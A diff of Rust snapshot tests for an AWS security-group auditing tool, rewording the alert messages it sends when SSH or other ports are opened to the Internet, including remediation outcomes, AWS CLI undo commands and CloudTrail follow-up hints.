@@ -12,21 +12,21 @@ fn of(finding: Finding) -> String {
 #[test]
 fn narrowed_open_ssh() {
     assert_snapshot!(of(narrowed()), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    SSH was open to the Internet on typo3-shop
     Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     Kept: tcp 22 from 203.0.113.0/24
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -40,21 +40,21 @@ fn reverted_open_ssh_without_sources() {
     finding.remediation.kept = Vec::new();
     finding.excess_text = "tcp 22 from anywhere".to_owned();
     assert_snapshot!(of(finding), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    SSH was open to the Internet on typo3-shop
     Closed after 41 s. The rule was revoked; nothing of it was left to add.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere
     Kept: nothing
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -64,7 +64,7 @@ fn reverted_open_ssh_without_sources() {
 #[test]
 fn reverted_all_tcp_ports() {
     let mut finding = narrowed();
-    finding.title = "tcp 0-65535 from 0.0.0.0/0 lets the whole Internet reach SSH and every other TCP port on typo3-shop.".to_owned();
+    finding.title = "All TCP ports were open to the Internet on typo3-shop".to_owned();
     finding.rule = Some(rule(Protocol::TCP, 0, 65535, "0.0.0.0/0"));
     finding.excess_text =
         "tcp 0-21, 23-79, 81-442, 444-65535 from anywhere; tcp 22 from anywhere but 203.0.113.0/24"
@@ -76,21 +76,21 @@ fn reverted_all_tcp_ports() {
             .map(str::to_owned)
             .to_vec();
     assert_snapshot!(of(finding), @r#"
-    tcp 0-65535 from 0.0.0.0/0 lets the whole Internet reach SSH and every other TCP port on typo3-shop.
+    All TCP ports were open to the Internet on typo3-shop
     Closed after 41 s. The rule was revoked, and three rules put in its place.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
-    Rule: tcp 0-65535 from 0.0.0.0/0
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
+    Rule: all tcp from 0.0.0.0/0
     Too much: tcp 0-21, 23-79, 81-442, 444-65535 from anywhere; tcp 22 from anywhere but 203.0.113.0/24
     Kept: tcp 80 from 0.0.0.0/0; tcp 443 from 0.0.0.0/0; tcp 22 from 203.0.113.0/24
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -100,20 +100,20 @@ fn reverted_all_tcp_ports() {
 #[test]
 fn a_revert_that_failed() {
     assert_snapshot!(of(failed()), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    SSH is open to the Internet on typo3-shop
     Still open. EC2 refused the revoke: UnauthorizedOperation (the function's role may not call ec2:RevokeSecurityGroupIngress on this group).
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     A revert would keep: tcp 22 from 203.0.113.0/24
 
     What is still open has to be closed by hand.
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -126,25 +126,26 @@ fn a_revert_that_took_too_much() {
         Outcome::Failed,
         "The group was at its rule limit, so the rule was revoked first; then EC2 refused tcp 80 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded.",
     );
+    finding.title = "SSH (tcp 22-79) was open to the Internet on typo3-shop".to_owned();
     finding.rule = Some(rule(Protocol::TCP, 22, 80, "0.0.0.0/0"));
     finding.remediation.kept = vec!["tcp 80 from 0.0.0.0/0".to_owned()];
     assert_snapshot!(of(finding), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    SSH (tcp 22-79) was open to the Internet on typo3-shop
     Closed, but something that should have stayed is gone too. The group was at its rule limit, so the rule was revoked first; then EC2 refused tcp 80 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: tcp 22-80 from 0.0.0.0/0
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     Should be kept: tcp 80 from 0.0.0.0/0
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
 
     Put back by hand what should have been kept: a website may be down.
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -154,19 +155,20 @@ fn a_revert_that_took_too_much() {
 #[test]
 fn under_notify() {
     assert_snapshot!(of(open_ssh()), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
-    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+    SSH is open to the Internet on typo3-shop
+    Nothing was changed: findings are only reported. The rule was still in the group.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     A revert would keep: tcp 22 from 203.0.113.0/24
 
+    If it was not needed: remove the rule, or narrow it to what the baseline admits.
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -176,20 +178,20 @@ fn under_notify() {
 #[test]
 fn already_gone() {
     assert_snapshot!(of(gone(Outcome::AlreadyGone, "EC2 had nothing to revoke: somebody else was faster.")), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    SSH was open to the Internet on typo3-shop
     EC2 had nothing to revoke: somebody else was faster.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere but 203.0.113.0/24
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -199,12 +201,12 @@ fn already_gone() {
 #[test]
 fn an_event_that_nobody_can_read() {
     assert_snapshot!(of(unaudited()), @r"
-    A change of a security group could not be audited.
+    A change of a security group could not be audited
     The event is no JSON: expected value at line 1 column 1.
 
     Seen: 2026-11-22 03:12:50 UTC
 
-    Look at the group yourself: what the change did was not judged, and nothing was closed.
+    Look yourself at what changed: it was not judged, and nothing was closed.
 
     Reference: unaudited-change, high, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
@@ -219,25 +221,25 @@ fn a_change_that_could_not_be_audited() {
         account: known.account,
         change: known.change,
         console_url: known.console_url,
-        title: "A change of typo3-shop could not be audited.".to_owned(),
+        title: "A change of typo3-shop could not be audited".to_owned(),
         ..unaudited()
     };
     finding.remediation.detail = "EC2 refused to list its rules: UnauthorizedOperation.".to_owned();
-    assert_snapshot!(of(finding), @r"
-    A change of typo3-shop could not be audited.
+    assert_snapshot!(of(finding), @r#"
+    A change of typo3-shop could not be audited
     EC2 refused to list its rules: UnauthorizedOperation.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
 
-    Look at the group yourself: what the change did was not judged, and nothing was closed.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    Look yourself at what changed: it was not judged, and nothing was closed.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: unaudited-change, high, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
-    ");
+    "#);
 }
 
 #[test]
@@ -245,30 +247,29 @@ fn smtp_of_a_development_server() {
     let mut finding = mysql();
     finding.code = Code::EgressNotInBaseline;
     finding.severity = Severity::Low;
-    finding.title =
-        "tcp 25 to 0.0.0.0/0 is not in the baseline on typo3-shop, where SMTP is blocked."
-            .to_owned();
+    finding.title = "Tcp 25 is allowed out of typo3-shop to the Internet".to_owned();
     let mut smtp = rule(Protocol::TCP, 25, 25, "0.0.0.0/0");
     smtp.direction = Direction::Egress;
     finding.rule = Some(smtp);
     finding.excess_text = "tcp 25 to anywhere".to_owned();
-    assert_snapshot!(of(finding), @r"
-    tcp 25 to 0.0.0.0/0 is not in the baseline on typo3-shop, where SMTP is blocked.
-    Nothing was done about it: revert-ssh leaves it.
+    assert_snapshot!(of(finding), @r#"
+    Tcp 25 is allowed out of typo3-shop to the Internet
+    Nothing was changed: only open SSH is reverted. The rule was still in the group.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: tcp 25 to 0.0.0.0/0
     Too much: tcp 25 to anywhere
 
-    If it was needed: add it to the baseline, or make an exemption.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not needed: remove the rule, or narrow it to what the baseline admits.
+    If it was needed: add the traffic to the baseline, or make an exemption.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: egress-not-in-baseline, low, baseline standard 1a2b3c4d5e6f, fingerprint 60303ae22b998861
-    ");
+    "#);
 }
 
 #[test]
@@ -277,15 +278,15 @@ fn a_baseline_that_admits_ssh_from_anywhere() {
     finding.code = Code::OpenSshInBaseline;
     finding.severity = Severity::Informational;
     finding.title =
-        "The baseline as-documented admits SSH from anywhere; CIS and Security Hub fail that."
+        "The baseline as-documented itself lets the Internet reach SSH, which CIS and Security Hub fail"
             .to_owned();
     finding.remediation.detail = String::new();
     assert_snapshot!(of(finding), @r"
-    The baseline as-documented admits SSH from anywhere; CIS and Security Hub fail that.
+    The baseline as-documented itself lets the Internet reach SSH, which CIS and Security Hub fail
 
     Seen: 2026-11-22 03:12:50 UTC
 
-    If it was needed: keep it; else name the SSH sources, or use the baseline standard.
+    Unless that is meant: name the SSH sources, or use the baseline standard.
 
     Reference: open-ssh-in-baseline, informational, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
@@ -302,8 +303,8 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
     let rule = finding.rule.as_mut().unwrap();
     (rule.id, rule.description) = (None, None);
     assert_snapshot!(of(finding.clone()), @r"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
-    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+    SSH is open to the Internet on typo3-shop
+    Nothing was changed: findings are only reported. The rule was still in the group.
 
     Seen: 2026-11-22 03:12:50 UTC
     Group: sg-0a1b2c3d4e5f60718, eu-central-1
@@ -311,22 +312,25 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     A revert would keep: tcp 22 from 203.0.113.0/24
 
+    If it was not needed: remove the rule, or narrow it to what the baseline admits.
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
 
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
     finding.change = Some(FindingChange::default());
     assert_snapshot!(of(finding), @r"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
-    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
+    SSH is open to the Internet on typo3-shop
+    Nothing was changed: findings are only reported. The rule was still in the group.
 
+    Seen: 2026-11-22 03:12:50 UTC
     Group: sg-0a1b2c3d4e5f60718, eu-central-1
     Rule: tcp 22 from 0.0.0.0/0
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     A revert would keep: tcp 22 from 203.0.113.0/24
 
+    If it was not needed: remove the rule, or narrow it to what the baseline admits.
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did.
 
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
@@ -335,10 +339,10 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
 #[test]
 fn both_families_in_one_call() {
     let mut ipv6 = narrowed();
-    ipv6.title = "tcp 22 from ::/0 lets the whole Internet reach SSH on typo3-shop.".to_owned();
+    ipv6.title = "SSH was open to the Internet on typo3-shop".to_owned();
     ipv6.fingerprint = "2c26b46b68ffc68f".to_owned();
     ipv6.rule = Some(rule(Protocol::TCP, 22, 22, "::/0"));
-    ipv6.excess_text = "tcp 22 from any IPv6 address but 2001:db8:1::/48".to_owned();
+    ipv6.excess_text = "tcp 22 from anywhere (IPv6) but 2001:db8:1::/48".to_owned();
     ipv6.remediation.kept = vec!["tcp 22 from 2001:db8:1::/48".to_owned()];
     ipv6.remediation.detail =
         "The rule was revoked, and tcp 22 from 2001:db8:1::/48 put in its place.".to_owned();
@@ -349,34 +353,42 @@ fn both_families_in_one_call() {
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
 
-    1. tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    1. SSH was open to the Internet on typo3-shop
     Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     Kept: tcp 22 from 203.0.113.0/24
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
     To undo:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
     Reference: open-ssh, critical, fingerprint 9f86d081884c7d65
 
-    2. tcp 22 from ::/0 lets the whole Internet reach SSH on typo3-shop.
+    2. SSH was open to the Internet on typo3-shop
     Closed after 41 s. The rule was revoked, and tcp 22 from 2001:db8:1::/48 put in its place.
     Rule: tcp 22 from ::/0
-    Too much: tcp 22 from any IPv6 address but 2001:db8:1::/48
+    Too much: tcp 22 from anywhere (IPv6) but 2001:db8:1::/48
     Kept: tcp 22 from 2001:db8:1::/48
-    Connections: Those made meanwhile ended with the rule.
+    Connections that only this rule let in were untracked and ended with it.
     To undo:
     aws ec2 authorize-security-group-ingress …
     Reference: open-ssh, critical, fingerprint 2c26b46b68ffc68f
 
     If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
-    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: baseline standard 1a2b3c4d5e6f
     "#);
+}
+
+#[test]
+fn what_went_wrong_is_told_first_however_many_there_are() {
+    let mut findings = vec![narrowed(); 30];
+    findings.push(failed());
+    let mail = body(&report(findings));
+    assert!(mail.contains("\n1. SSH is open to the Internet on typo3-shop\nStill open."), "{mail}");
 }
 
 #[test]
@@ -394,26 +406,26 @@ fn a_sweep_of_many_groups() {
 
     Seen: 2026-11-22 03:12:50 UTC
 
-    1. tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
-    Nothing was done about it: REMEDIATION is notify. The rule was there when the group was read.
-    Group: typo3-0, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    1. SSH is open to the Internet on typo3-shop
+    Nothing was changed: findings are only reported. The rule was still in the group.
+    Group: sg-0a1b2c3d4e5f60718 "typo3-0", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     A revert would keep: tcp 22 from 203.0.113.0/24
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: open-ssh, critical, fingerprint 9f86d081884c7d65
 
-    2. tcp 3306 from 0.0.0.0/0 is not in the baseline on typo3-shop.
-    Nothing was done about it: revert-ssh leaves it.
-    Group: typo3-1, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    2. Tcp 3306 is open to the Internet on typo3-shop
+    Nothing was changed: only open SSH is reverted. The rule was still in the group.
+    Group: sg-0a1b2c3d4e5f60718 "typo3-1", eu-central-1, account 123456789012
     Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
     Too much: tcp 3306 from anywhere
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
     Reference: ingress-not-in-baseline, high, fingerprint 60303ae22b998861
 
-    3. tcp 3306 from 0.0.0.0/0 is not in the baseline on typo3-shop.
-    Nothing was done about it: revert-ssh leaves it.
-    Group: typo3-2, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    3. Tcp 3306 is open to the Internet on typo3-shop
+    Nothing was changed: only open SSH is reverted. The rule was still in the group.
+    Group: sg-0a1b2c3d4e5f60718 "typo3-2", eu-central-1, account 123456789012
     Rule: sgr-0fedcba9876543210, tcp 3306 from 0.0.0.0/0
     Too much: tcp 3306 from anywhere
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
@@ -439,9 +451,10 @@ fn a_sweep_of_many_groups() {
     21. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-20, ingress-not-in-baseline, high
     22. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-21, ingress-not-in-baseline, high
     23. OPEN: tcp 3306 from 0.0.0.0/0 on typo3-22, ingress-not-in-baseline, high
-    and 7 more; the JSON of this message has them all.
+    and 7 more; sg-audit check lists them all.
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption; add it to the baseline, or make an exemption.
+    If it was not needed: remove the rule, or narrow it to what the baseline admits.
+    If it was needed: add the addresses that need SSH to the SSH sources; add the traffic to the baseline, or make an exemption.
 
     This is part 1 of 2.
     Not everything was audited.
@@ -455,21 +468,21 @@ fn a_long_excess_and_a_long_undo() {
     finding.excess_text = "tcp 22 from 198.51.100.0/24, ".repeat(200);
     finding.remediation.undo = Some("aws ".repeat(5000));
     assert_snapshot!(of(finding), @r#"
-    tcp 22 from 0.0.0.0/0 lets the whole Internet reach SSH on typo3-shop.
+    SSH was open to the Internet on typo3-shop
     Closed after 41 s. The rule was revoked, and tcp 22 from 203.0.113.0/24 put in its place.
 
     When: 2026-11-22 03:12:09 UTC, AuthorizeSecurityGroupIngress
     Who: arn:aws:sts::123456789012:assumed-role/Admin/jane
     From: 198.51.100.23, aws-cli/2.31.0 md/awscrt#0.27.6
-    Group: typo3-shop, sg-0a1b2c3d4e5f60718, vpc-0f1e2d3c4b5a69788, eu-central-1, account 123456789012
+    Group: sg-0a1b2c3d4e5f60718 "typo3-shop", eu-central-1, account 123456789012
     Rule: sgr-0123456789abcdef0, tcp 22 from 0.0.0.0/0 "temp"
     Too much: tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 from 198.51.100.0/24, tcp 22 fr…
